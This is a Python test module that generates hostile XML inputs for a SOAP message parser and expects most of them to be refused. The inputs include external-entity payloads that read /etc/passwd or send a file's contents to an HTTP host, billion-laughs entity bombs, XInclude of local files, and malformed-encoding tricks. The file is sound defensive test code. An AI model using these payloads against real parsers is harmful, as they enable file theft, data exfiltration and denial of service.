"""Cases below the level of SOAP: entities, document types, encodings, XML that isn't well-formed."""

import gzip
from collections.abc import Iterable, Iterator

import messages
from hostile.cases import (
    SECRET,
    Bait,
    Case,
    Expected,
    Isolated,
    Read,
    Refused,
    always,
    baited,
    encoded,
    isolated,
    raw,
    read,
    refused,
    with_doctype,
)

from obgen import Refusal

_GOOD = messages.message()
_TEXT = _GOOD.decode()
_BODY = _TEXT.removeprefix(messages.DECLARATION)
_REFERENCE = raw("Name", "&x;")


def cases() -> Iterator[Case]:
    """Yield every case of this module."""
    yield from _external_entities()
    yield from _entity_bombs()
    yield from _document_types()
    yield from _inclusions()
    yield from _splitting()
    yield from _encodings()
    yield from _characters()
    yield from _versions()
    yield from _broken()


def _external_entities() -> Iterator[Case]:
    declared = {
        "a file": '<!ENTITY x SYSTEM "{file}">',
        "the password file": '<!ENTITY x SYSTEM "file:///etc/passwd">',
        "a relative file": '<!ENTITY x SYSTEM "canary.txt">',
        "an http URL": '<!ENTITY x SYSTEM "{http}">',
        "an ftp URL": '<!ENTITY x SYSTEM "{ftp}">',
        "a network path": '<!ENTITY x SYSTEM "//127.0.0.1:{port}/x">',
        "a public identifier": '<!ENTITY x PUBLIC "-//x//y//EN" "{http}">',
        "a parameter": '<!ENTITY % p SYSTEM "{http}"> %p; <!ENTITY x "y">',
        "a parameter that is a file": '<!ENTITY % p SYSTEM "{file}"> %p; <!ENTITY x "y">',
        "a file sent to a host": (
            '<!ENTITY % f SYSTEM "{file}"><!ENTITY % a "<!ENTITY &#37; s SYSTEM \'{http}?%f;\'>">'
            '%a;%s;<!ENTITY x "y">'
        ),
        "an unparsed entity": '<!NOTATION n SYSTEM "{http}"><!ENTITY x SYSTEM "{file}" NDATA n>',
        "an encoded file": '<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/{file}">',
    }
    for what, doctype in declared.items():
        yield _baited(f"XXE: {what}", f"<!DOCTYPE x [{doctype}]>", _REFERENCE)
        yield _baited(
            f"XXE in an attribute: {what}", f"<!DOCTYPE x [{doctype}]>", raw("Name", "", 'a="&x;"')
        )
    yield _baited("XXE: an external subset", '<!DOCTYPE x SYSTEM "{http}">')
    yield _baited("XXE: an external subset that is a file", '<!DOCTYPE x SYSTEM "{file}">')
    yield _baited("XXE: a public external subset", '<!DOCTYPE x PUBLIC "-//x" "{http}">')
    yield _baited(
        "XXE: a local DTD, one of its parameters replaced",
        '<!DOCTYPE x [<!ENTITY % d SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd">'
        "<!ENTITY % constant 'a)><!ENTITY &#37; f SYSTEM \"{file}\"><!ELEMENT b (c'>%d;]>",
    )
    yield _baited(
        "XXE: an attribute's default", "<!DOCTYPE x [<!ATTLIST x y CDATA '{file}' z ID #IMPLIED>]>"
    )


def _baited(name: str, doctype: str, *fields: str) -> Case:
    def make(bait: Bait) -> Iterable[bytes]:
        filled = (
            doctype.replace("{file}", bait.file)
            .replace("{http}", bait.http)
            .replace("{ftp}", bait.ftp)
            .replace("{port}", str(bait.port))
        )
        yield encoded(with_doctype(filled, *fields))

    return Case(name, make, Refused((Refusal.DOCTYPE,)))


def _entity_bombs() -> Iterator[Case]:
    laughs = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 12)).replace(
        "&x0;", "lol"
    )
    parameters = "".join(f"<!ENTITY % p{n} '{f'&#37;p{n - 1};' * 10}'>" for n in range(1, 12))
    huge = "A" * 100_000
    bombs = {
        "in an element": (laughs, raw("Name", "&x11;")),
        "in an attribute": (laughs, raw("Name", "", 'a="&x11;"')),
        "of parameters": (parameters + "%p11;", ""),
        "that is quadratic": (f'<!ENTITY x "{huge}">', raw("Name", "&x;" * 50_000)),
        "that holds itself": ('<!ENTITY x "&y;"><!ENTITY y "&x;">', _REFERENCE),
        "of elements": ('<!ENTITY x "<a><a/></a>">', raw("Name", "&x;" * 50_000)),
        "of character references": (f'<!ENTITY x "{"&#65;" * 100_000}">', raw("Name", "&x;" * 999)),
        "that declares millions": ("<!ENTITY x 'y'>" * 200_000, ""),
    }
    for what, (declared, field) in bombs.items():
        body = with_doctype(f"<!DOCTYPE x [{declared}]>", field)
        yield Case(
            f"entity bomb {what}",
            always(body.encode()),
            Refused((Refusal.DOCTYPE,)),
            measured=True,
        )
    for name in ("x", "nbsp", "lt ", "amplt", "LT", "#x", "#", "#xG", "#-1", "#1114112", "#xD800"):
        yield refused(
            f"the reference &{name};",
            messages.message(messages.record(raw("Name", f"&{name};"))),
            Refusal.NOT_WELL_FORMED,
        )


def _document_types() -> Iterator[Case]:
    placed = {
        "alone": "<!DOCTYPE x>",
        "after a comment": "<!-- a --><!DOCTYPE x>",
        "after an instruction": "<?a b?><!DOCTYPE x>",
        "after a comment that hides another": "<!-- <!DOCTYPE x> --><!DOCTYPE y>",
        "after white space": "\n\t \n<!DOCTYPE x>",
        "after 1,000 comments": "<!-- a -->" * 1_000 + "<!DOCTYPE x>",
        "in small letters": "<!doctype x>",
        "of HTML": '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://127.0.0.1/">',
        "that never ends": "<!DOCTYPE x [",
        "with a stylesheet inside": "<!DOCTYPE x [<?xml-stylesheet href='x'?>]>",
    }
    for what, doctype in placed.items():
        yield refused(f"a DOCTYPE {what}", with_doctype(doctype), Refusal.DOCTYPE)
    yield refused("a DOCTYPE without declaration", "<!DOCTYPE x>" + _BODY, Refusal.DOCTYPE)
    yield refused("a DOCTYPE after a BOM", "\ufeff<!DOCTYPE x>" + _BODY, Refusal.DOCTYPE)
    yield refused("a DOCTYPE at the end", _TEXT + "<!DOCTYPE x>", Refusal.NOT_WELL_FORMED)
    inside = messages.message(messages.record("<!DOCTYPE x>"))
    yield refused("a DOCTYPE among the fields", inside, Refusal.NOT_WELL_FORMED)
    text = "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;"
    yield read("a DOCTYPE as text", messages.field("Name", text), name=text)
    yield read("a DOCTYPE in CDATA", raw("Name", f"<![CDATA[{text}]]>"), name=text)
    yield Case(
        "a DOCTYPE in a comment",
        lambda _: [with_doctype("<!-- <!DOCTYPE x> -->").encode()],
        Read(),
    )


def _inclusions() -> Iterator[Case]:
    xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    for parse in ("text", "xml"):
        yield Case(
            f"XInclude of {parse} in a field",
            baited(_two(raw("Name", f'<xi:include {xi} parse="{parse}" href="{{file}}"/>'))),
            Isolated(),
        )
        yield Case(
            f"XInclude of {parse} as a field",
            baited(_two(f'<xi:include {xi} parse="{parse}" href="{{http}}"/>')),
            Isolated(),
        )
    yield Case(
        "XInclude in the Body",
        lambda bait: [messages.envelope(f'<xi:include {xi} href="{bait.file}"/>')],
        Refused((Refusal.NOT_OUTBOUND,)),
    )
    yield Case(
        "XInclude beside the parts",
        lambda bait: [
            messages.message(before=messages.parts() + f'<xi:include {xi} href="{bait.file}"/>')
        ],
        Refused((Refusal.NOT_OUTBOUND,)),
    )
    for attribute in ("xsi:schemaLocation", "xsi:noNamespaceSchemaLocation"):
        yield Case(
            f"a schema by {attribute}",
            baited(
                messages.message(
                    messages.record(raw("Name", "x", f'{attribute}="{{http}} {{file}}"'))
                )
            ),
            Read({"name": "x"}),
        )
    for instruction in (
        '<?xml-stylesheet type="text/xsl" href="{http}"?>',
        '<?xml-model href="{http}"?>',
        '<?php readfile("{file}") ?>',
        "<?xml-stylesheet <!DOCTYPE x> ?>",
        '<?oasis-xml-catalog catalog="{http}"?>',
    ):
        yield Case(
            f"the instruction {instruction[:22]}",
            baited(with_doctype(instruction).encode()),
            Read(),
        )
    yield Case(
        "xml:base and relative names",
        lambda bait: [
            messages.message(messages.record(raw("Name", "canary.txt", f'xml:base="{bait.file}"')))
        ],
        Read({"name": "canary.txt"}),
    )


def _two(*fields: str) -> bytes:
    good = messages.record(messages.field("Name", "good"), notification_id=messages.numbered(2))
    return messages.message(messages.record(*fields), good)


def _splitting() -> Iterator[Case]:
    pieces = {
        "a comment": "<!-- -->",
        "an empty comment": "<!---->",
        "an instruction": "<?a?>",
        "an empty CDATA section": "<![CDATA[]]>",
        "a comment that shows markup": "<!-- </sf:Name><sf:Name>x -->",
        "an instruction that shows markup": "<?a </sf:Name><sf:Name>x ?>",
    }
    for what, piece in pieces.items():
        yield read(
            f"an address split by {what}",
            raw("Name", f"admin{piece}@evil.example"),
            name="admin@evil.example",
        )
        yield read(f"a number split by {what}", raw("Amount", f"1{piece}0"), amount=10.0)
        yield Case(
            f"an organization split by {what}",
            always(
                messages.message(
                    before=messages.parts(organization_id=f"00D000000000001{piece}EAA")
                )
            ),
            Read(),
        )
        yield refused(
            f"another organization behind {what}",
            messages.message(
                before=messages.parts(organization_id=f"00D000000000001EAA{piece}00D9")
            ),
            Refusal.BAD_ID,
        )
    yield read(
        "CDATA that shows markup",
        raw("Name", "a<![CDATA[</sf:Name><sf:IsWon>true</sf:IsWon>]]>b"),
        name="a</sf:Name><sf:IsWon>true</sf:IsWon>b",
    )
    yield read(
        "CDATA ended and begun again",
        raw("Name", "<![CDATA[a]]]]><![CDATA[>b]]>"),
        name="a]]>b",
    )
    yield read("blanks kept beside CDATA", raw("Name", "  <![CDATA[x]]> "), name="  x ")
    yield read("blanks kept before a comment", raw("Name", "  <!-- x -->"), name="  ")
    yield read("blanks kept before an instruction", raw("Name", "  <?x?>"), name="  ")
    yield read("blanks by reference", raw("Name", "&#32;&#9;&#10;&#13; "), name=" \t\n\r ")
    yield read("line ends", raw("Name", "a\r\nb\rc\nd&#13;"), name="a\nb\nc\nd\r")
    yield read("a value of 400 blanks", raw("Name", " " * 400), name=" " * 400)
    yield isolated("blank CDATA where fields should be", raw("Amount", "<![CDATA[ ]]>"))
    yield isolated("an element hidden by a comment", raw("Name", "a<!-- --><b/>c"))


def _encodings() -> Iterator[Case]:
    encoding = Refusal.ENCODING
    broken = Refusal.NOT_WELL_FORMED
    undeclared = _BODY
    for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"):
        for what, text in (("undeclared", undeclared), ("declared", _declared(name))):
            yield refused(f"{name} {what}", text.encode(name), encoding, Refusal.DOCTYPE, broken)
    yield refused("EBCDIC", _TEXT.encode("cp037"), encoding, broken)
    yield refused("EBCDIC declared", _declared("IBM037").encode("cp037"), encoding, broken)
    yield refused("UTF-7", _BODY.replace("<", "+ADw-").replace(">", "+AD4-"), broken)
    yield refused("UTF-7 by its tags", "+ADw-a/+AD4-", broken)
    for name in (
        "UTF-7", "UTF-16", "UTF-32", "ISO-8859-1", "latin1", "US-ASCII", "windows-1252", "IBM037",
        "ISO-10646-UCS-4", "x-user-defined", "HZ-GB-2312", "ISO-2022-JP", "UTF8", "utf_8", "CESU-8",
    ):  # fmt: skip
        yield refused(f"UTF-8 declared as {name}", _declared(name), encoding)
    yield refused("a declared encoding that is none", _declared("../../etc/passwd"), broken)
    latin = messages.message(messages.record(messages.field("Name", "caf\u00e9")))
    yield refused("latin-1 undeclared", latin.decode().encode("latin-1"), encoding)
    yield refused(
        "latin-1 declared",
        _declared("ISO-8859-1").replace("Id>006", "Id>\u00e906").encode("latin-1"),
        encoding,
    )
    invalid = {
        "an overlong slash": b"\xc0\xaf",
        "an overlong angle bracket": b"\xc0\xbc",
        "an overlong NUL": b"\xc0\x80",
        "three bytes for a slash": b"\xe0\x80\xaf",
        "four bytes for a slash": b"\xf0\x80\x80\xaf",
        "a high surrogate": b"\xed\xa0\x80",
        "a low surrogate": b"\xed\xb0\x80",
        "a pair of surrogates": b"\xed\xa0\xbd\xed\xb8\x80",
        "a character beyond Unicode": b"\xf4\x90\x80\x80",
        "five bytes": b"\xf8\x88\x80\x80\x80",
        "six bytes": b"\xfc\x84\x80\x80\x80\x80",
        "a lone continuation": b"\x80",
        "a start without its end": b"\xe2\x82",
        "a start at the end of a tag": b"\xc3",
        "the bytes FE and FF": b"\xfe\xff",
    }
    for what, wrong in invalid.items():
        yield refused(f"UTF-8 with {what}", _with_bytes(wrong), encoding)
        yield refused(f"{what} in a tag", _GOOD.replace(b"<Id>", b"<Id" + wrong + b">"), encoding)
    yield refused("a cut character at the end", _GOOD + b"\xe2\x82", encoding)
    yield refused(
        "a wrong byte after a megabyte", _with_bytes(b"\xc3\xa9" * 524_288 + b"\xff"), encoding
    )
    yield Case("a BOM", lambda _: [b"\xef\xbb\xbf" + _GOOD], Read())
    yield refused("two BOMs", b"\xef\xbb\xbf\xef\xbb\xbf" + _GOOD, broken)
    yield refused("a BOM after white space", b"\n\xef\xbb\xbf" + _GOOD, broken)
    yield refused("a BOM of UTF-16 before UTF-8", b"\xff\xfe" + _GOOD, encoding)
    yield read("a BOM in a value", messages.field("Name", "\ufeffx"), name="\ufeffx")


def _declared(encoding: str) -> str:
    return f'<?xml version="1.0" encoding="{encoding}"?>\n{_BODY}'


def _with_bytes(wrong: bytes) -> bytes:
    """Return a message with bytes in a value that a message can't hold."""
    return messages.message(messages.record(messages.field("Name", "@@"))).replace(b"@@", wrong)


def _characters() -> Iterator[Case]:
    for code in (0x00, 0x01, 0x07, 0x08, 0x0B, 0x0C, 0x1B, 0x1F):
        broken = Refusal.NOT_WELL_FORMED
        yield refused(f"the character U+{code:04X}", _with_bytes(bytes([code])), broken)
        yield refused(f"a reference to U+{code:04X}", _with_bytes(b"&#%d;" % code), broken)
    for code in (0xFFFE, 0xFFFF):
        yield refused(f"U+{code:04X}", _with_bytes(chr(code).encode()), Refusal.NOT_WELL_FORMED)
    yield refused("NUL in a tag", _GOOD.replace(b"<Id>", b"<I\0d>"), Refusal.NOT_WELL_FORMED)
    yield refused("NUL at the start", b"\0" + _GOOD, Refusal.ENCODING)
    yield refused("NUL at the end", _GOOD + b"\0", Refusal.NOT_WELL_FORMED)
    yield refused("a message behind NUL", _GOOD + b"\0" + _GOOD, Refusal.NOT_WELL_FORMED)
    odd = {
        "DEL": "\x7f",
        "C1 controls": "\x80\x85\x9b31m",
        "line and paragraph separators": "\u2028\u2029",
        "bidi controls": "\u202eevil\u2066x\u2069\u202c",
        "zero-width characters": "a\u200b\u200d\u2060b",
        "a private and a rare character": "\ue000\U0010fffd",
        "combining marks": "a" + "\u0301" * 500,
        "an emoji of seven characters": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
        "full-width markup": "\uff1cscript\uff1e",
    }
    for what, text in odd.items():
        yield read(f"a value of {what}", messages.field("Name", text + SECRET), name=text + SECRET)


def _versions() -> Iterator[Case]:
    for version in ("1.1", "1.2", "2.0", "1", "1.00", "9.9"):
        yield refused(f"XML {version}", f'<?xml version="{version}"?>{_BODY}', Refusal.XML_VERSION)
    for declaration in (
        "<?xml?>", "<?xml ?>", "<?xml version=1.0?>", "<?xml encoding='UTF-8'?>",
        "<?xml version='1.0' standalone='maybe'?>", "<?xml version='1.0' x='y'?>",
        " <?xml version='1.0'?>", "<?xml version='1.0'?><?xml version='1.0'?>",
        "<?XML version='1.0'?>", "<?xml version='1.0'>", "<?xml version=\"1.0'?>",
        "<?xml version='1.0' encoding='UTF-8' encoding='UTF-16'?>", "<?xml version='1.0\n'?>",
    ):  # fmt: skip
        yield refused(
            f"the declaration {declaration}", declaration + _BODY, Refusal.NOT_WELL_FORMED
        )
    nel = "<?xml version='1.0'\u0085?>" + _BODY
    yield refused("a declaration with NEL as a blank", nel, Refusal.NOT_WELL_FORMED)
    standalone = "<?xml version='1.0' encoding='utf-8' standalone='no' ?>\n"
    yield Case("a stand-alone declaration", lambda _: [encoded(standalone + _BODY)], Read())


def _broken() -> Iterator[Case]:
    broken = Refusal.NOT_WELL_FORMED
    yield refused("nothing", b"", Refusal.EMPTY)
    yield refused("white space", b" \r\n\t" * 100, Refusal.EMPTY)
    yield refused("a comment and nothing else", b"<!-- x -->", Refusal.EMPTY)
    yield refused("only a declaration", messages.DECLARATION, Refusal.EMPTY)
    for what, body in {
        "gzip": gzip.compress(_GOOD),
        "zlib": bytes.fromhex("789ccb48cdc9c95728cf2fca490100"),
        "a PNG": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    }.items():
        yield refused(f"the bytes of {what}", body, Refusal.ENCODING, broken)
    for what, text in {
        "JSON": '{"sf:Id": "006000000000001AAA"}',
        "a form": "a=b&c=d",
        "HTML": "<html><body><p>Log in<br></body></html>",
        "multipart": "--x\r\nContent-Type: text/xml\r\n\r\n" + _BODY,
        "an HTTP request": "POST / HTTP/1.1\r\n\r\n" + _BODY,
        "two messages": _BODY + _BODY,
        "trailing text": _TEXT + "x",
        "a trailing element": _TEXT + "<a/>",
        "trailing CDATA": _TEXT + "<![CDATA[]]>",
        "a trailing reference": _TEXT + "&#32;",
        "leading text": "x" + _TEXT,
        "tags crossed": _TEXT.replace(
            "</soapenv:Body></soapenv:Envelope>", "</soapenv:Envelope></soapenv:Body>"
        ),
        "an attribute twice": _TEXT.replace("<Id>", "<Id a='1' a='2'>"),
        "an attribute twice by namespace": _TEXT.replace(
            "<Id>", "<Id xmlns:p='x' xmlns:q='x' p:a='1' q:a='2'>"
        ),
        "an attribute without quotes": _TEXT.replace("<Id>", "<Id a=1>"),
        "an attribute without value": _TEXT.replace("<Id>", "<Id a>"),
        "an angle bracket in an attribute": _TEXT.replace("<Id>", "<Id a='<'>"),
        "a name that starts with a digit": _TEXT.replace("<Id>", "<Id><1/>"),
        "two colons in a name": _TEXT.replace("<sf:Id>", "<sf:sf:Id>").replace(
            "</sf:Id>", "</sf:sf:Id>"
        ),
        "a prefix that isn't declared": _TEXT.replace("sf:Id>", "zz:Id>"),
        "an empty prefix": _TEXT.replace("sf:Id>", ":Id>"),
        "a prefix undeclared": _TEXT.replace("<sf:Id>", "<sf:Id xmlns:sf=''>"),
        "the prefix xmlns": _TEXT.replace("sf:Id>", "xmlns:Id>"),
        "xml bound elsewhere": _TEXT.replace("<sf:Id>", "<sf:Id xmlns:xml='x'>"),
        "the end of CDATA in text": _TEXT.replace("<sf:Id>", "<sf:Id>]]>"),
        "two hyphens in a comment": _TEXT.replace("<sf:Id>", "<!-- -- --><sf:Id>"),
        "an instruction named xml": _TEXT.replace("<sf:Id>", "<?xml version='1.0'?><sf:Id>"),
        "a comment without end": _TEXT.replace("<sf:Id>", "<!-- <sf:Id>"),
        "CDATA without end": _TEXT.replace("<sf:Id>", "<sf:Id><![CDATA["),
        "an instruction without end": _TEXT.replace("<sf:Id>", "<?a <sf:Id>"),
        "a conditional section": _TEXT.replace("<sf:Id>", "<![INCLUDE[ ]]><sf:Id>"),
        "an SGML comment": _TEXT.replace("<sf:Id>", "<!><sf:Id>"),
        "an ampersand": messages.message(messages.record(raw("Name", "a & b"))).decode(),
        "an angle bracket": messages.message(messages.record(raw("Name", "a < b"))).decode(),
    }.items():
        yield refused(f"not XML: {what}", text, broken)
    yield Case("trailing white space", lambda _: [_GOOD + b" \n" * 100], Read())
    yield Case("a trailing comment", lambda _: [_GOOD + b"<!-- x --><?a?>\n"], Read())
    yield Case("cut at every byte", _cut, _CUT)


_CUT: Expected = Refused((Refusal.EMPTY, Refusal.NOT_WELL_FORMED))


def _cut(_: Bait) -> Iterable[bytes]:
    whole = messages.message(
        messages.record(raw("Name", "a<![CDATA[b]]><!-- c --><?d e?>&lt;&#955;")),
        header="<soapenv:Header/>",
    )
    return (whole[:end] for end in range(len(whole)))
